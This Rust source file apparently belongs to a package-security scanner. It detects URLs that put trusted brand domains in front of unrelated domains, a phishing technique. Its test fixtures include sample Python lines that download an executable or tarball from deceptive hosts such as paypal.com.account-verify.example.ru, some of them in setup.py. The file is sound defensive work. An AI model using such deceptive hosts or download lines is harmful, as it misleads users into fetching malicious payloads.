//! `network.trusted-domain-subdomain`: URLs whose host carries a well-known
//! domain (google.com, paypal.com, microsoft.com, github.com, apple.com,
//! amazon.com, …) as labels of a *different* registrable domain:
//! `paypal.com.account-verify.example.ru` → registrable `example.ru`.
//!
//! Uses `psl` for the registrable domain; the trusted labels must lie wholly in
//! the subdomain part, so `www.google.com.au` (registrable `google.com.au`) is
//! quiet. URLs follow [`super::urls`] rules.
//!
//! Severity: Medium (install time High); a URL that is *fetched* — inside the
//! call of a network fetch (`urlretrieve(URL, …)`, `requests.get(URL)`) — is a
//! download from a deceptive host: High (install time Critical).

use super::pysrc::{self, MAX_HITS_PER_FILE};
use super::sinks::{self, SinkKind};
use super::urls;
use crate::model::{Category, FileRole, Severity};
use crate::scan::detector::{Detector, DetectorMeta, Hit, Hits, Interest, TextFile};

pub(crate) static META: DetectorMeta = DetectorMeta {
    id: "network.trusted-domain-subdomain",
    revision: 1,
    title: "Contains URLs that use trusted domains as subdomains.",
    category: Category::Network,
    severity: Severity::Medium,
    description: "A trusted name in front of an unrelated domain is a phishing trick and may hide a typo in a domain the package means to reach.",
};

const TRUSTED: &[&str] = &[
    "google.com",
    "googleapis.com",
    "gmail.com",
    "youtube.com",
    "paypal.com",
    "microsoft.com",
    "microsoftonline.com",
    "live.com",
    "office.com",
    "outlook.com",
    "windows.net",
    "azure.com",
    "github.com",
    "githubusercontent.com",
    "gitlab.com",
    "apple.com",
    "icloud.com",
    "amazon.com",
    "amazonaws.com",
    "facebook.com",
    "instagram.com",
    "whatsapp.com",
    "twitter.com",
    "x.com",
    "linkedin.com",
    "dropbox.com",
    "discord.com",
    "telegram.org",
    "slack.com",
    "zoom.us",
    "netflix.com",
    "yahoo.com",
    "ebay.com",
    "binance.com",
    "coinbase.com",
    "metamask.io",
    "docker.com",
    "cloudflare.com",
    "okta.com",
    "steamcommunity.com",
    "steampowered.com",
    "chase.com",
    "bankofamerica.com",
    "wellsfargo.com",
];

/// The trusted domain written in the subdomain part of `host`, if any.
pub(crate) fn trusted_in_subdomain(host: &str) -> Option<&'static str> {
    let reg = psl::domain_str(host)?;
    if host.len() <= reg.len() + 1 {
        return None;
    }
    let sub = &host[..host.len() - reg.len() - 1];
    TRUSTED.iter().copied().find(|t| *t != reg && has_labels(sub, t))
}

/// True when the dot-separated labels of `t` appear as whole labels in `sub`.
/// Tried at each label start only (this runs for every trusted name on every URL host, so no
/// substring searcher is built per pair).
fn has_labels(sub: &str, t: &str) -> bool {
    let (s, t) = (sub.as_bytes(), t.as_bytes());
    let mut starts = std::iter::once(0).chain(memchr::memchr_iter(b'.', s).map(|i| i + 1));
    starts.any(|i| s[i..].starts_with(t) && s.get(i + t.len()).is_none_or(|&b| b == b'.'))
}

/// True when `url_off` lies inside the parentheses of the call starting at `call_off`
/// (same statement, at most 1 KiB on).
fn is_call_argument(text: &str, call_off: usize, url_off: usize) -> bool {
    if url_off - call_off > 1024 {
        return false;
    }
    let between = &text.as_bytes()[call_off..url_off];
    let Some(open) = between.iter().position(|&b| b == b'(') else {
        return false;
    };
    let mut depth = 0i32;
    for &b in &between[open..] {
        match b {
            b'(' => depth += 1,
            b')' => depth -= 1,
            _ => {}
        }
        if depth == 0 {
            return false;
        }
    }
    true
}

pub(crate) struct TrustedSubdomain;

impl Detector for TrustedSubdomain {
    fn meta(&self) -> &'static DetectorMeta {
        &META
    }
    fn interest(&self) -> Interest {
        Interest::Literals(urls::URL_LITERALS)
    }
    fn scan_text(&self, file: &TextFile<'_>, hits: &mut Hits) {
        if !urls::file_counts(file) {
            return;
        }
        let src = file.source();
        // Only a deceptive host acts below: without one, the member is not lexed.
        if !urls::any_url(src, |u| trusted_in_subdomain(&u.host).is_some()) {
            return;
        }
        let install = file.role == FileRole::InstallTime;
        let sev = if install { Severity::High } else { Severity::Medium };
        let mut fetches: Option<Vec<usize>> = None;
        let mut n = 0;
        for u in urls::find(src) {
            if n >= MAX_HITS_PER_FILE {
                break;
            }
            if let Some(t) = trusted_in_subdomain(&u.host) {
                n += 1;
                // Only files with a deceptive host pay for the sink search.
                let fetches = fetches
                    .get_or_insert_with(|| sinks::find(src, &[SinkKind::Fetch]).iter().map(|s| s.offset).collect());
                let fetched = fetches.iter().any(|&f| f < u.offset && is_call_argument(file.text, f, u.offset));
                let sev = match (fetched, install) {
                    (true, true) => Severity::Critical,
                    (true, false) => Severity::High,
                    _ => sev,
                };
                let mut ev = pysrc::evidence(file, u.offset, u.host.clone());
                let what = if fetched { "downloaded from " } else { "" };
                ev.snippet = ev.snippet.map(|s| format!("{s}  [{what}{t} in front of {}]", u.registrable()));
                hits.push(&META, Hit { severity: Some(sev), evidence: ev });
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::scan::detectors::testutil::table;
    use FileRole::*;
    use Severity::*;

    #[test]
    fn cases() {
        table(
            &TrustedSubdomain,
            META.id,
            &[
                (
                    "paypal in front",
                    "pkg/a.py",
                    Runtime,
                    "U = 'https://paypal.com.evil.ru/login'\n",
                    Some((1, "paypal.com.evil.ru", Medium)),
                ),
                (
                    "deeper",
                    "setup.py",
                    InstallTime,
                    "\nU = 'http://login.microsoft.com.verify.example.org/'\n",
                    Some((2, "login.microsoft.com.verify.example.org", High)),
                ),
                (
                    "download of an exe from a deceptive host",
                    "pkg/__init__.py",
                    Runtime,
                    "import urllib.request\nurllib.request.urlretrieve('https://paypal.com.account-verify.example.ru/update.exe', 'update.exe')\n",
                    Some((2, "paypal.com.account-verify.example.ru", High)),
                ),
                (
                    "requests.get of a deceptive host in setup.py",
                    "setup.py",
                    InstallTime,
                    "r = requests.get(\n    'https://github.com.cdn.example.org/x.tar.gz', timeout=5)\n",
                    Some((2, "github.com.cdn.example.org", Critical)),
                ),
                (
                    "deceptive host only mentioned next to a fetch",
                    "pkg/a.py",
                    Runtime,
                    "BAD = 'https://paypal.com.evil.example.ru/'\nr = requests.get(url)\n",
                    Some((1, "paypal.com.evil.example.ru", Medium)),
                ),
                (
                    "legit download of a real subdomain",
                    "pkg/a.py",
                    Runtime,
                    "urllib.request.urlretrieve('https://objects.githubusercontent.com/x.exe', 'x.exe')\n",
                    None,
                ),
                ("real google subdomain", "pkg/a.py", Runtime, "U = 'https://accounts.google.com/o/oauth2'\n", None),
                ("country registrable", "pkg/a.py", Runtime, "U = 'https://www.google.com.au/search'\n", None),
                ("s3 bucket host", "pkg/a.py", Runtime, "U = 'https://bucket.s3.amazonaws.com/key'\n", None),
                ("github pages", "pkg/a.py", Runtime, "U = 'https://user.github.io/x'\n", None),
                ("in comment", "pkg/a.py", Runtime, "# https://paypal.com.evil.ru\n", None),
                ("partial label", "pkg/a.py", Runtime, "U = \x27https://mygoogle.com.example.org/\x27\n", None),
            ],
        );
    }

    #[test]
    fn trusted_labels_match_whole_labels_only() {
        let cases = [
            ("the whole subdomain", "paypal.com", "paypal.com", true),
            ("after a label", "login.paypal.com", "paypal.com", true),
            ("before a label", "paypal.com.login", "paypal.com", true),
            ("in the middle", "a.paypal.com.b", "paypal.com", true),
            ("glued in front", "mypaypal.com", "paypal.com", false),
            ("glued behind", "paypal.comx", "paypal.com", false),
            ("second occurrence is whole", "xpaypal.com.paypal.com", "paypal.com", true),
            ("shorter subdomain", "www", "paypal.com", false),
            ("empty subdomain", "", "paypal.com", false),
        ];
        for (name, sub, t, want) in cases {
            assert_eq!(has_labels(sub, t), want, "{name}");
        }
    }
}
